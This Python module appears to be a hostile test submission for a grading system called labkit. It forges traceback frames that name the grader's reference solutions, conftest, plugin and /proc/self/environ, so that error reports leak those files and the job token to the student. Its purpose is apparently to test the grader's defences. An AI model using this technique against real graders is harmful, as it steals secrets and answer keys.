"""Raises exceptions whose traceback frames name the grader's files (the reference solution, a
grader's conftest, the labkit plugin) and ``/proc/self/environ``, at many line numbers, hoping
that formatting the traceback in the grader reads those lines from the grader's disk and puts
them (and the grader's environment, its job token included) in the student's report."""

import json
import os

try:                                    # when the submission is built: the files to name
    from labkit.grading.labs import REPO as _REPO
    _TARGETS = [str(_REPO / "reference" / "lab0_resilience" / "breaker.py"),
                str(_REPO / "reference" / "lab1_cap" / "node.py"),
                str(_REPO / "graders" / "lab0_resilience" / "conftest.py"),
                str(_REPO / "labkit" / "grading" / "plugin.py"), "/proc/self/environ"]
    EXTRA_FILES = {"_hostile_targets.json": json.dumps(_TARGETS)}
except Exception:  # noqa: BLE001
    EXTRA_FILES = {}


def _targets():
    try:
        with open(os.path.join(os.path.dirname(os.path.abspath(__file__)),
                               "_hostile_targets.json")) as f:
            return json.load(f)
    except (OSError, ValueError):
        return ["/proc/self/environ"]


def _through(target, lines):
    """Call down through frames that claim to run ``target`` at each of ``lines``."""
    if not lines:
        raise ValueError("boom from a file of the grader")
    code = compile("\n" * (lines[0] - 1) + "_next()", target, "exec")
    exec(code, {"_next": lambda: _through(target, lines[1:])})  # noqa: S102


def attack(obj):
    targets = _targets()
    target = targets[hash(type(obj).__name__) % len(targets)] if obj is not None else targets[-1]
    _through(target, list(range(1, 14)))
